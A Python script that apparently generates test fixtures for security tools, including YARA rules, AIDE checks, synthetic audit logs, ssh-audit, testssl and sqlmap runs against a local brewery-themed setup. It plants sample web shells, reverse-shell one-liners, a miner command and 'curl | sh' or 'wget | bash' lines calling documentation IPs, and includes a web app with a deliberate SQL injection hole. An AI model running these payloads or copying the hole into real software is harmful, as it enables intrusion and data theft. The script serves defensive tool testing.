"""Round 113's host security items (second samples of round 102's kinds, its extractors imported): YARA rules written
here over a copy of the `hopyard` brewery's servers (a seeded generator plants cloud keys, web shells, miners and
reverse shells among brew logs and recipes), AIDE over the brewery's config tree before and after a bad night, audit
logs generated here in the kernel's record format (ausearch, aureport), ssh-audit against an sshd on a high loopback
port and testssl.sh against `openssl s_server` on 127.0.0.1. Run through capture_wide113.py."""

from __future__ import annotations

import random
import shutil
from pathlib import Path

import capture_more as cm
from capture_more import run, write_tree
from capture_data import free_port, wait_port
from capture_wide113 import cap
from capture_wide102_host import n_aide_check, n_aureport_report, n_ausearch, n_yara_scan
from capture_wide102_net import n_sqlmap, n_ssh_audit, n_testssl

WORDS = ("mash wort hops malt barrel cask keg yeast lager stout porter ferment tun kettle grist sparge pallet "
         "taproom cellar brine batch").split()

YARA_RULES = r'''
rule Hop_GCP_Key : secret cloud
{
    meta:
        severity = "high"
    strings:
        $k = /AIza[0-9A-Za-z_\-]{35}/
    condition:
        $k
}

rule Hop_Stripe_Key : secret payment
{
    meta:
        severity = "critical"
    strings:
        $s = /sk_live_[0-9a-zA-Z]{24}/
    condition:
        $s
}

rule Hop_PHP_Shell : webshell
{
    strings:
        $a = "passthru($_REQUEST"
        $b = "assert($_POST"
        $c = "shell_exec(base64_decode"
    condition:
        any of them
}

rule Hop_Reverse_Shell : backdoor
{
    strings:
        $py = "socket.socket(socket.AF_INET" ascii
        $dup = "os.dup2(s.fileno()"
        $ncat = /ncat [0-9.]+ \d+ -e \/bin\/bash/
    condition:
        ($py and $dup) or $ncat
}

rule Hop_Miner : miner
{
    meta:
        severity = "medium"
    strings:
        $m1 = "--donate-level"
        $m2 = "pool.supportxmr"
    condition:
        any of them
}

rule Hop_Cron_Persist : persistence
{
    strings:
        $c = /\* \* \* \* \* root curl -fsSL http:\/\/[0-9.]+/
    condition:
        $c
}
'''


def make_srv(root: Path, seed: int, n: int) -> None:
    rng = random.Random(seed)
    dirs = ["var/www/taproom", "var/www/taproom/media", "srv/brewlog", "opt/hopyard/bin", "opt/hopyard/conf",
            "home/brewer", "home/cellar", "etc/cron.d", "var/tmp"]
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    plants = [
        lambda: "MAPS_KEY=AIza" + "".join(rng.choice(alnum + "_-") for _ in range(35)),
        lambda: "stripe.api_key = 'sk_live_" + "".join(rng.choice(alnum) for _ in range(24)) + "'",
        lambda: "<?php passthru($_REQUEST['%s']); ?>" % rng.choice(WORDS),
        lambda: "<?php echo shell_exec(base64_decode($_GET['x'])); ?>",
        lambda: ("s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('192.0.2.%d',%d));"
                 "os.dup2(s.fileno(),0)" % (rng.randrange(1, 255), rng.choice([443, 8443, 31337]))),
        lambda: "ncat 198.51.100.%d %d -e /bin/bash" % (rng.randrange(1, 255), rng.choice([4444, 1337])),
        lambda: "./kthreadd --donate-level 1 -o pool.supportxmr.com:443",
        lambda: "* * * * * root curl -fsSL http://203.0.113.%d/u.sh | sh" % rng.randrange(1, 255),
    ]
    for i in range(n):
        body = [" ".join(rng.choice(WORDS) for _ in range(rng.randrange(5, 12))) for _ in range(rng.randrange(4, 30))]
        if rng.random() < 0.4:
            for _ in range(rng.choice([1, 1, 2])):
                body.insert(rng.randrange(len(body) + 1), rng.choice(plants)())
        p = root / rng.choice(dirs) / f"{rng.choice(WORDS)}-{i:04d}{rng.choice(['.php', '.py', '.sh', '.cfg', '.log', '.md'])}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(body) + "\n")


def cap_yara(tmp: Path) -> None:
    d = tmp / "yara"
    write_tree(d, {"rules/hopyard.yar": YARA_RULES})
    make_srv(d / "srv", 11301, 360)
    make_srv(d / "srv-web", 11302, 60)
    cap("yara-s-r-srv-head", "yara -s -r rules/hopyard.yar srv/ 2>&1 | head -n 100", d, n_yara_scan)
    cap("yara-r-m-srv", "yara -r -m rules/hopyard.yar srv/; echo EXIT=$?", d, n_yara_scan)
    cap("yara-s-web-tags", "yara -s -r -t webshell -t secret rules/hopyard.yar srv-web/", d, n_yara_scan)


AIDE_CONF = """database_in=file:{d}/aide.db
database_out=file:{d}/aide.db.new
gzip_dbout=no
report_url=stdout
Brew = p+u+g+s+m+sha512
{d}/etc Brew
{d}/opt Brew
!{d}/opt/hopyard/spool
"""


def cap_aide(tmp: Path) -> None:
    d = tmp / "aide"
    d.mkdir(parents=True)
    (d / "aide.conf").write_text(AIDE_CONF.format(d=d))
    rng = random.Random(11303)
    files = []
    for i in range(300):
        sub = rng.choice(["etc/hopyard", "etc/hopyard/taps.d", "etc/systemd/hop", "opt/hopyard/bin", "opt/hopyard/lib"])
        p = d / sub / f"{rng.choice(WORDS)}_{i:03d}.{rng.choice(['toml', 'so', 'py', 'yaml', 'service'])}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(f"{rng.choice(WORDS)}: {rng.randrange(5000)}" for _ in range(rng.randrange(2, 20))))
        files.append(p)
    run("aide --config=aide.conf --init", cwd=d, timeout=300)
    shutil.move(d / "aide.db.new", d / "aide.db")
    files[11].write_text(files[11].read_text() + "\nbind: 0.0.0.0\n")
    files[40].chmod(0o666)
    (d / "opt/hopyard/bin/.fermctl").write_text("wget -qO- http://198.51.100.2/k | bash\n")
    cap("aide-check-few-echo", "aide --config=aide.conf --check; echo EXIT=$?", d, n_aide_check)
    for p in rng.sample(files, 60):
        p.write_text(p.read_text() + f"\n# {rng.choice(WORDS)} {rng.randrange(99)}\n")
    for p in rng.sample(files, 14):
        p.chmod(0o777)
    for p in rng.sample(files, 18):
        p.unlink(missing_ok=True)
    for i in range(20):
        (d / rng.choice(["opt/hopyard/lib", "etc/hopyard/taps.d"]) / f".{rng.choice(WORDS)}{i}").write_text("x%d\n" % i)
    cap("aide-check-night", "aide -c aide.conf --check", d, n_aide_check)
    cap("aide-check-night-tail", "aide -c aide.conf -C 2>&1 | tail -n 80", d, n_aide_check)


def make_audit_log(path: Path, seed: int, n: int) -> None:
    rng = random.Random(seed)
    t, serial = 1764900000.0, 52000
    watched = [("/etc/hopyard/pos.toml", "pos-conf"), ("/etc/shadow", "shadow"), ("/etc/sudoers.d/brew", "sudoers"),
               ("/srv/brewlog/recipes.db", "recipes")]
    exes = ["/usr/bin/nano", "/usr/bin/cat", "/usr/bin/python3.11", "/opt/hopyard/bin/tapd", "/usr/bin/grep"]
    users = [1401, 1402, 1403, 1404]
    addrs = ["192.168.40.%d" % i for i in (10, 11, 23)] + ["198.51.100.%d" % i for i in (14, 77, 203)]
    out = []
    intruder = (n // 4, 3 * n // 4)  # the intruder's dropper reads /etc/shadow twice
    guessed = (n // 3, n // 3 + 9)  # and an outside host guesses an account nobody has
    for ev in range(n):
        t += rng.uniform(3, 240)
        serial += 1
        st = f"audit({t:.3f}:{serial})"
        r = rng.random()
        if ev in intruder:
            r = 0.0
        elif ev in guessed:
            r = 0.5
        if r < 0.4:
            f, key = rng.choices(watched, weights=[6, 2, 1, 1])[0]
            uid = rng.choice(users + [0])
            ok = uid == 0 or rng.random() < 0.4
            exe = rng.choices(exes, weights=[1, 1, 1, 6, 1])[0]
            if ev in intruder:
                f, key, exe, uid, ok = "/etc/shadow", "shadow", "/var/tmp/.cache/hopd", 1499, False
            res = "success=yes exit=4" if ok else "success=no exit=-13"
            out.append(f"type=SYSCALL msg={st}: arch=c000003e syscall=2 {res} a0=7ffd a1=0 a2=1b6 a3=0 items=1 "
                       f"ppid={rng.randrange(500, 900)} pid={rng.randrange(2000, 30000)} auid={uid} uid={uid} gid={uid} "
                       f"euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts1 "
                       f"ses={rng.randrange(2, 12)} comm=\"{exe.rsplit('/', 1)[1][:15]}\" exe=\"{exe}\" "
                       f"subj=unconfined key=\"{key}\"")
            out.append(f"type=PATH msg={st}: item=0 name=\"{f}\" inode={rng.randrange(100, 90000)} dev=fd:00 "
                       f"mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                       f"cap_frootid=0")
        elif r < 0.72:
            acct = rng.choices(["brewer", "cellar", "root", "pi", "test"], weights=[16, 3, 2, 1, 1])[0]
            if ev in guessed:
                acct = "oracle"
            addr = rng.choice(addrs)
            ok = addr.startswith("192.") and acct in ("brewer", "cellar")
            typ = rng.choice(["USER_AUTH", "USER_LOGIN", "USER_AUTH"])
            op = "PAM:authentication" if typ == "USER_AUTH" else "login"
            out.append(f"type={typ} msg={st}: pid={rng.randrange(2000, 30000)} uid=0 auid=4294967295 ses=4294967295 "
                       f"subj=unconfined msg='op={op} acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname={addr} "
                       f"addr={addr} terminal=ssh res={'success' if ok else 'failed'}'")
        elif r < 0.9:
            uid = rng.choice(users)
            cmd = rng.choice(["/usr/bin/systemctl restart tapd", "/usr/bin/tail -f /srv/brewlog/batch.log",
                              "/usr/bin/apt upgrade"])
            out.append(f"type=USER_CMD msg={st}: pid={rng.randrange(2000, 30000)} uid={uid} auid={uid} ses=5 "
                       f"subj=unconfined msg='cwd=\"/home/brewer\" cmd={cmd.encode().hex().upper()} terminal=pts/1 "
                       f"res={'success' if rng.random() < 0.85 else 'failed'}'")
        elif r < 0.985:
            out.append(f"type=SERVICE_STOP msg={st}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
                       f"msg='unit=tapd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "
                       f"terminal=? res={'success' if rng.random() < 0.7 else 'failed'}'")
        else:
            out.append(f"type=ANOM_ABEND msg={st}: auid=1402 uid=1402 gid=1402 ses=5 subj=unconfined "
                       f"pid={rng.randrange(2000, 30000)} comm=\"tapd\" exe=\"/opt/hopyard/bin/tapd\" sig=6 res=1")
    path.write_text("\n".join(out) + "\n")


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True)
    make_audit_log(d / "audit.log", 11304, 520)
    make_audit_log(d / "audit.1", 11305, 120)
    cap("ausearch-k-pos-conf", "ausearch -if audit.log -i -k pos-conf", d, n_ausearch)
    cap("ausearch-login-failed-tail", "ausearch -if audit.log -i -m USER_AUTH,USER_LOGIN --success no | tail -n 80",
        d, n_ausearch)
    cap("ausearch-rotated-echo", "ausearch -if audit.1 -i; echo EXIT=$?", d, n_ausearch)
    cap("aureport-file-failed", "aureport -if audit.log -f -i --failed", d, n_aureport_report)
    cap("aureport-auth-head", "aureport -if audit.log -au -i | head -n 100", d, n_aureport_report)
    cap("aureport-exe-failed-echo", "aureport -if audit.1 -x -i --failed; echo EXIT=$?", d, n_aureport_report)


SSHD_CONF = """Port {port}
ListenAddress 127.0.0.1
HostKey {d}/{key}
PidFile {d}/sshd-{port}.pid
UsePAM no
{extra}
"""


def cap_ssh(tmp: Path) -> None:
    d = tmp / "ssh"
    d.mkdir(parents=True)
    Path("/run/sshd").mkdir(exist_ok=True)
    run("ssh-keygen -q -t rsa -b 2048 -N '' -f host_rsa && ssh-keygen -q -t ecdsa -b 384 -N '' -f host_ecdsa", cwd=d)
    old, mid = free_port(), free_port()
    (d / "old.conf").write_text(SSHD_CONF.format(port=old, d=d, key="host_rsa", extra=(
        "KexAlgorithms +diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1\n"
        "Ciphers +aes192-cbc,3des-cbc\nMACs +hmac-sha1,umac-64@openssh.com\nHostKeyAlgorithms +ssh-rsa")))
    (d / "mid.conf").write_text(SSHD_CONF.format(port=mid, d=d, key="host_ecdsa", extra=(
        "KexAlgorithms curve25519-sha256,ecdh-sha2-nistp384\nCiphers aes256-ctr,aes128-gcm@openssh.com\n"
        "MACs hmac-sha2-256,umac-128-etm@openssh.com")))
    for conf in ("old.conf", "mid.conf"):
        cm.start(f"/usr/sbin/sshd -D -e -f {d / conf}", cwd=d, log=open(d / f"{conf}.log", "w"))
    if not (wait_port(old) and wait_port(mid)):
        cm.note("skip ssh-audit: sshd did not start: " + (d / "old.conf.log").read_text()[:300])
        return
    cap("ssh-audit-legacy-echo", f"ssh-audit -p {old} 127.0.0.1; echo EXIT=$?", d, n_ssh_audit)
    cap("ssh-audit-ecdsa-l-warn", f"ssh-audit -l warn -p {mid} 127.0.0.1", d, n_ssh_audit)
    cap("ssh-audit-legacy-head", f"ssh-audit -p {old} 127.0.0.1 2>&1 | head -n 60", d, n_ssh_audit)


def cap_tls(tmp: Path) -> None:
    d = tmp / "tls"
    d.mkdir(parents=True)
    (d / "empty.cnf").write_text("")
    env = {"OPENSSL_CONF": str(d / "empty.cnf")}
    run(f"openssl req -x509 -newkey rsa:2048 -sha256 -keyout {d}/pos.key -out {d}/pos.pem -days 1 -nodes "
        "-subj /CN=pos.hopyard.test", cwd=d, env=env)
    if not (d / "pos.key").exists():
        cm.note("skip testssl: no key")
        return
    port = free_port()
    cm.start(f"openssl s_server -accept 127.0.0.1:{port} -cert pos.pem -key pos.key -www -no_tls1_3 "
             "-cipher 'AES128-SHA:DES-CBC3-SHA:ECDHE-RSA-AES256-SHA:@SECLEVEL=0'", cwd=d, env=env,
             log=open(d / "s.log", "w"))
    if not wait_port(port, 30):
        cm.note("skip testssl: s_server did not start: " + (d / "s.log").read_text()[:300])
        return
    ts = "testssl --color 0 --warnings batch"
    cap("testssl-pos-p-S-echo", f"{ts} -p -S 127.0.0.1:{port}; echo EXIT=$?", d, n_testssl, timeout=400)
    cap("testssl-pos-e-U-tail", f"{ts} -E -U 127.0.0.1:{port} 2>&1 | tail -n 80", d, n_testssl, timeout=500)


APP = r'''
import html, sqlite3, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
DB = sys.argv[2]
class H(BaseHTTPRequestHandler):
    def send(self, code, body):
        data = body.encode()
        self.send_response(code); self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data))); self.end_headers(); self.wfile.write(data)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = dict(urllib.parse.parse_qsl(u.query))
        con = sqlite3.connect(DB)
        try:
            if u.path == "/tank":
                # bug: the tank number goes into the SQL text
                rows = con.execute("SELECT tank, beer, litres FROM tanks WHERE tank = %s" % q.get("no", "1")).fetchall()
            elif u.path == "/order":
                rows = con.execute("SELECT code, beer, kegs FROM orders WHERE code = ?", (q.get("code", ""),)).fetchall()
            else:
                return self.send(404, "not found")
        except sqlite3.Error as e:
            return self.send(500, "<h1>Error</h1><pre>%s</pre>" % html.escape(str(e)))
        finally:
            con.close()
        self.send(200, "<table>" + "".join("<tr>%s</tr>" % "".join("<td>%s</td>" % html.escape(str(c)) for c in r)
                                           for r in rows) + "</table>")
    def log_message(self, *a):
        pass
ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
'''


def cap_sqlmap(tmp: Path) -> None:
    import sqlite3
    d = tmp / "app"
    d.mkdir(parents=True)
    write_tree(d, {"app.py": APP})
    rng = random.Random(11306)
    con = sqlite3.connect(d / "brew.db")
    con.executescript("CREATE TABLE tanks (tank INTEGER PRIMARY KEY, beer TEXT, litres INTEGER);"
                      "CREATE TABLE orders (code TEXT, beer TEXT, kegs INTEGER);"
                      "CREATE TABLE staff (login TEXT, name TEXT, role TEXT, pin TEXT);")
    for i in range(1, 19):
        con.execute("INSERT INTO tanks VALUES (?,?,?)", (i, rng.choice(HOPS_BEERS), rng.randrange(200, 2000)))
    for i in range(30):
        con.execute("INSERT INTO orders VALUES (?,?,?)", (f"O{500 + i}", rng.choice(HOPS_BEERS), rng.randrange(1, 12)))
    for i in range(12):
        login = f"{rng.choice(['brewer', 'cellar', 'bar', 'driver'])}{i}"
        role = "head brewer" if i == 2 else "owner" if i == 7 else "staff"
        con.execute("INSERT INTO staff VALUES (?,?,?,?)", (login, login.title(), role, f"{rng.randrange(10000):04d}"))
    con.commit()
    con.close()
    port = free_port()
    cm.start(["python3", "app.py", str(port), str(d / "brew.db")], cwd=d)
    if not wait_port(port):
        cm.note("skip sqlmap: app did not start")
        return
    sq = "sqlmap --batch --output-dir=out"
    env = {"HOME": str(d)}
    cap("sqlmap-tank-dump-staff", f"{sq} -u 'http://127.0.0.1:{port}/tank?no=3' -T staff --dump", d, n_sqlmap,
        env=env, timeout=500)
    cap("sqlmap-tank-tables-tail", f"{sq} -u 'http://127.0.0.1:{port}/tank?no=3' --tables 2>&1 | tail -n 40; "
        "echo EXIT=$?", d, n_sqlmap, env=env, timeout=500)


HOPS_BEERS = ["Citra IPA", "Oat Stout", "Harvest Saison", "Yard Pils", "Smoked Porter", "Cask Bitter"]

STEPS = [cap_yara, cap_aide, cap_audit, cap_ssh, cap_tls, cap_sqlmap]
